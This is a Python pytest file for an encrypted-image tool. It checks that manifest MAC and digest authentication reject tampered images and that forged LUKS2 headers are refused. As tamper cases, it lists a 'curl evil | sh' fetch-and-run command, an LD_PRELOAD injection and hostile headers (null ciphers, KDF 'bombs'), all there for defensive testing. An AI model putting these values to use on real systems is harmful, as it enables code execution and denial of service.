"""Authenticated images without devices: the statement's MAC and digest, and the LUKS2 header
checks (on headers written as cryptsetup writes them; the VM tier uses real ones)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from luksfixtures import DATA_OFFSET, HDR, UUID, header_copy, metadata, write_layer

from cryptlayer.errors import TamperedImageError, UsageError
from cryptlayer.image import envelope, luksheader, statement
from cryptlayer.image import manifest as manifest_mod
from cryptlayer.image.manifest import ImageConfig, Layer, Manifest
from cryptlayer.keys.sources import Credential, Secret

LAYER = Layer("layer0.luks", UUID, DATA_OFFSET + 4096, 1, "rootfs/", DATA_OFFSET,
              "layer0.verity", 4096, "ab" * 32, "cd" * 32)  # fmt: skip


def secret(data: bytes) -> Secret:
    return Secret(bytearray(data))


def made(tmp_path: Path, image_key: bytes = b"i" * 32, user_key: bytes = b"k" * 32) -> Manifest:
    """An image directory as build leaves it (manifest.json, keys.json), without layers."""
    built = Manifest((LAYER,), ImageConfig(cmd=("sh",)), created="2026-11-26T00:00:00+00:00")
    built = replace(built, raw=built.encode())
    manifest_mod.save(tmp_path, built)
    with secret(image_key) as ik, secret(user_key) as uk:
        envelope.save(tmp_path, [envelope.for_key(ik, uk)], statement.mac(ik, built.raw))
    return manifest_mod.load(tmp_path)


def unlock(tmp_path: Path, user_key: bytes = b"k" * 32) -> bytes:
    """The image key, as OpenedImage.unlock gets it before its header checks (no layer here)."""
    loaded, keys = manifest_mod.load(tmp_path), envelope.load(tmp_path)
    with (
        Credential(key=secret(user_key)) as cred,
        envelope.unlock(tmp_path, keys.entries, cred) as k,
        k.view() as data,
    ):
        statement.authenticate(tmp_path, loaded, keys.statement_mac, k)
        return bytes(data)


def test_a_built_image_authenticates(tmp_path: Path) -> None:
    made(tmp_path)
    assert unlock(tmp_path) == b"i" * 32


def test_digest_is_sha256_of_the_exact_bytes(tmp_path: Path) -> None:
    loaded = made(tmp_path)
    raw = (tmp_path / "manifest.json").read_bytes()
    assert loaded.raw == raw and loaded.encode() == raw
    assert loaded.digest == "sha256:" + hashlib.sha256(raw).hexdigest()


CHANGES: list[Callable[[dict[str, Any]], None]] = [
    lambda d: d["config"].update(cmd=["sh", "-c", "curl evil | sh"]),
    lambda d: d["config"].update(env=["LD_PRELOAD=/tmp/x.so"]),
    lambda d: d["config"].update(user="0"),
    lambda d: d["config"].update(workdir="/root"),
    lambda d: d["config"].update(entrypoint=["/bin/evil"]),
    lambda d: d["layers"][0].update(uuid="11111111-2222-3333-4444-555555555555"),
    lambda d: d["layers"][0].update(file="other.luks"),
    lambda d: d["layers"].append(dict(d["layers"][0], file="layer1.luks", tree="layer1.verity")),
    lambda d: d.update(cipher="cipher_null-ecb"),
    lambda d: d.update(created="2030-01-01T00:00:00+00:00"),
]


@pytest.mark.parametrize("change", CHANGES, ids=[f"change{i}" for i in range(len(CHANGES))])
def test_any_change_to_the_statement_is_refused(
    tmp_path: Path, change: Callable[[dict[str, Any]], None]
) -> None:
    made(tmp_path)
    doc = json.loads((tmp_path / "manifest.json").read_text())
    change(doc)
    (tmp_path / "manifest.json").write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
    with pytest.raises(TamperedImageError) as caught:
        unlock(tmp_path)
    assert caught.value.message == (
        f"{tmp_path}/manifest.json was changed by someone without the image key"
        " (its MAC does not match)"
    )


def test_same_content_other_bytes_is_refused(tmp_path: Path) -> None:
    """The MAC covers the exact bytes: no second parser may see another document."""
    made(tmp_path)
    doc = json.loads((tmp_path / "manifest.json").read_text())
    (tmp_path / "manifest.json").write_text(json.dumps(doc))  # same content, compact
    with pytest.raises(TamperedImageError):
        unlock(tmp_path)


@pytest.mark.parametrize("mac", ["", "not base64!", base64.b64encode(b"x" * 32).decode()])
def test_missing_or_forged_mac_is_refused(tmp_path: Path, mac: str) -> None:
    made(tmp_path)
    keys = json.loads((tmp_path / "keys.json").read_text())
    keys["statement_mac"] = mac
    (tmp_path / "keys.json").write_text(json.dumps(keys))
    with pytest.raises(TamperedImageError) as caught:
        unlock(tmp_path)
    assert ("carries no MAC" in caught.value.message) == (mac == "")


def test_a_statement_from_another_image_is_refused(tmp_path: Path) -> None:
    """An attacker's own image (its manifest and a MAC under its own image key) spliced into
    ours: our entry still unwraps our image key, under which that MAC is wrong."""
    made(tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    made(other, image_key=b"j" * 32)
    (tmp_path / "manifest.json").write_bytes((other / "manifest.json").read_bytes())
    keys = json.loads((tmp_path / "keys.json").read_text())
    keys["statement_mac"] = json.loads((other / "keys.json").read_text())["statement_mac"]
    (tmp_path / "keys.json").write_text(json.dumps(keys))
    with pytest.raises(TamperedImageError, match="its MAC does not match"):
        unlock(tmp_path)


def test_mac_depends_on_key_and_label() -> None:
    with secret(b"i" * 32) as a, secret(b"j" * 32) as b:
        assert statement.mac(a, b"x") != statement.mac(b, b"x")
        assert statement.mac(a, b"x") != statement.mac(a, b"y")
        assert statement.mac(a, b"x") == statement.mac(a, b"x")


@pytest.mark.parametrize("digest", ["sha256:abc", "md5:" + "0" * 64, "sha256:" + "A" * 64, ""])
def test_digest_option_must_be_a_sha256_digest(digest: str) -> None:
    with pytest.raises(UsageError, match="is not sha256:<64 lowercase hex digits>"):
        statement.check_digest(digest)


def test_pinned_digest(tmp_path: Path) -> None:
    loaded = made(tmp_path)
    statement.require_digest(tmp_path, loaded.raw, loaded.digest)
    statement.require_digest(tmp_path, loaded.raw, None)
    other = "sha256:" + "0" * 64
    with pytest.raises(TamperedImageError, match=f"is image {loaded.digest}, not the {other}"):
        statement.require_digest(tmp_path, loaded.raw, other)


# ---- LUKS2 headers ---------------------------------------------------------------------------


def check(path: Path, manifest: Manifest | None = None) -> luksheader.Header:
    manifest = manifest or Manifest((LAYER,))
    fd = os.open(path, os.O_RDONLY)
    try:
        return luksheader.require(fd, manifest, manifest.layers[0], path)
    finally:
        os.close(fd)


def test_our_header_passes(tmp_path: Path) -> None:
    header = check(write_layer(tmp_path / "l"))
    assert header.uuid == UUID and header.keyslots == 1


def test_an_erased_header_passes_with_no_keyslot(tmp_path: Path) -> None:
    meta = metadata()
    meta["keyslots"] = {}
    assert check(write_layer(tmp_path / "l", meta)).keyslots == 0


def _set(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    meta = metadata()
    target: Any = meta
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return meta


# Headers an attacker without the key could write: each opens with any key, or breaks a rule.
HOSTILE: list[tuple[str, dict[str, Any], str]] = [
    ("null segment", _set(("segments", "0", "encryption"), "cipher_null-ecb"), "data segment"),
    ("null keyslot area", _set(("keyslots", "0", "area", "encryption"), "cipher_null-ecb"),
     "keyslot area"),
    ("two keyslots", _set(("keyslots", "1"), metadata()["keyslots"]["0"]), "2 keyslots"),
    ("second segment", _set(("segments", "1"), metadata()["segments"]["0"]), "segment list is 0 and 1"),
    ("other offset", _set(("segments", "0", "offset"), "4096"), "data segment"),
    ("other sector", _set(("segments", "0", "sector_size"), 512), "sector size"),
    ("integrity", _set(("segments", "0", "integrity"), {"type": "hmac(sha256)"}), "extra fields"),
    ("short key", _set(("keyslots", "0", "key_size"), 32), "key size"),
    ("argon2 bomb", _set(("keyslots", "0", "kdf"), {"type": "argon2id", "time": 1 << 30,
                                                     "memory": 1 << 30, "cpus": 4}), "KDF"),
    ("pbkdf2 bomb", _set(("keyslots", "0", "kdf", "iterations"), 1 << 40), "iterations"),
    ("area in data", _set(("keyslots", "0", "area", "offset"), str(DATA_OFFSET)), "into the data"),
    ("area before 0", _set(("keyslots", "0", "area", "offset"), "-300000"), "not a number"),
    ("digest bomb", _set(("digests", "0", "iterations"), 1 << 31), "digest's PBKDF2"),
    ("two digests", _set(("digests", "1"), metadata()["digests"]["0"]), "2 digests"),
    ("other digest", _set(("digests", "0", "hash"), "sha1"), "its digest"),
    ("token", _set(("tokens", "0"), {"type": "systemd-tpm2", "keyslots": ["0"]}), "tokens"),
    ("requirements", _set(("config", "requirements"), {"mandatory": ["online-reencrypt"]}),
     "requirements"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "meta", "detail"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_header_is_refused(
    tmp_path: Path, what: str, meta: dict[str, Any], detail: str
) -> None:
    path = write_layer(tmp_path / "l", meta)
    with pytest.raises(TamperedImageError) as caught:
        check(path)
    assert caught.value.message.startswith(
        f"the LUKS2 header of {path} is not the one the image was built with: "
    )
    assert detail in caught.value.message
    # read as text, not as Python prints a dict, list or tuple
    assert not re.search(r"[{}\[\]]|'[^'\s]+'", caught.value.message), caught.value.message


def test_header_mismatch_reads_as_text(tmp_path: Path) -> None:
    path = write_layer(tmp_path / "l", HOSTILE[0][1])
    with pytest.raises(TamperedImageError) as caught:
        check(path)
    assert caught.value.message == (
        f"the LUKS2 header of {path} is not the one the image was built with: its data segment"
        " is not the statement's (encryption cipher_null-ecb, the statement says aes-xts-plain64)"
    )


def test_other_uuid_is_refused(tmp_path: Path) -> None:
    """A genuine layer of another image (same format, other UUID) is not this one."""
    path = write_layer(tmp_path / "l", uuid="11111111-2222-3333-4444-555555555555")
    with pytest.raises(TamperedImageError, match="its UUID is 11111111-2222-3333-4444-5555"):
        check(path)


def _damage(path: Path, offset: int, data: bytes) -> Path:
    with open(path, "r+b") as f:
        f.seek(offset)
        f.write(data)
    return path


@pytest.mark.parametrize(
    ("what", "damage", "detail"),
    [
        ("zeroed", lambda p: _damage(p, 0, bytes(2 * HDR)), "no LUKS2 header"),
        ("checksum", lambda p: _damage(p, 5000, b"x"), "checksum does not match"),
        ("no second copy", lambda p: _damage(p, HDR, bytes(8)), "no second header copy"),
        ("copies differ", lambda p: _damage(
            p, HDR, header_copy(_set(("segments", "0", "encryption"), "cipher_null-ecb"), HDR)),
         "two header copies differ"),
        ("newer secondary", lambda p: _damage(p, HDR, header_copy(metadata(), HDR, seqid=9)),
         "two header copies differ"),
        ("luks1", lambda p: _damage(p, 6, b"\0\1"), "LUKS version 1"),
        ("cut short", lambda p: os.truncate(p, HDR + 100), "no second header copy"),
    ],
)  # fmt: skip
def test_unreadable_header_is_refused(
    tmp_path: Path, what: str, damage: Callable[[Path], object], detail: str
) -> None:
    path = write_layer(tmp_path / "l")
    damage(path)
    with pytest.raises(TamperedImageError) as caught:
        check(path)
    assert caught.value.message.startswith(f"{path} is not a readable LUKS2 layer (")
    assert detail in caught.value.message
